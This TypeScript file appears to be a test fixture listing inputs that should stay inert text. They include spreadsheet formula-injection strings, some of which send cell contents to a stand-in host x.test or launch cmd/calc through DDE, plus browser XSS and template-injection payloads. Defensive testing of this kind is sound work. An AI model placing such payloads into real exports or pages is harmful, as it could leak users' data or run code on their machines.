/** Texts that must stay texts: what spreadsheets take for formulas, browsers for markup, terminals for commands. */

const BODIES = [
  '1+1',
  'HYPERLINK("http://x.test/?"&A1,"klik")',
  'IMPORTXML(CONCAT("http://x.test/",A2),"//a")',
  'IMPORTDATA("http://x.test")',
  'IMPORTRANGE("x","A1")',
  'IMAGE("http://x.test/"&B2)',
  'WEBSERVICE("http://x.test")',
  'DDE("cmd","/c calc","x")',
  'QUERY(A1:B2,"select *")',
  'ARRAYFORMULA(A1:A9)',
  'LAMBDA(x,x)(1)',
  'GOOGLEFINANCE("GOOG")',
];
const LEADS = ['=', '+', '-', '@'];

const ODD = [
  "=cmd|'/c calc'!A1",
  "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
  "=rundll32|'URL.dll'!A",
  '＝1+1',
  '"=1"',
  "'=1",
  ';=1',
  ',=1',
  '|cmd',
  '%0A=1',
  '{=1}',
  '-',
  '+62812',
  '@li',
  '01/02/2026',
  '1E5',
  '007',
  'TRUE',
  '50%',
  'Rp 5.000',
  '1,5',
  '2026-11-23',
  '12:30',
  '#REF!',
  '=A1',
  '==1',
  '= 1',
  '+A1',
];

const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<?= 1 ?>',
  '&lt;b&gt;',
  '\u202Egnirts',
  'a\u0301 é 👩‍⚕️',
  "Ni'mah O’Brien",
];

export const PAYLOADS: readonly string[] = [
  ...BODIES.flatMap((body, i) => [`${LEADS[i % LEADS.length]}${body}`, `=${body}`]),
  ...ODD,
  ...SCRIPTS,
].filter((text, i, all) => all.indexOf(text) === i);
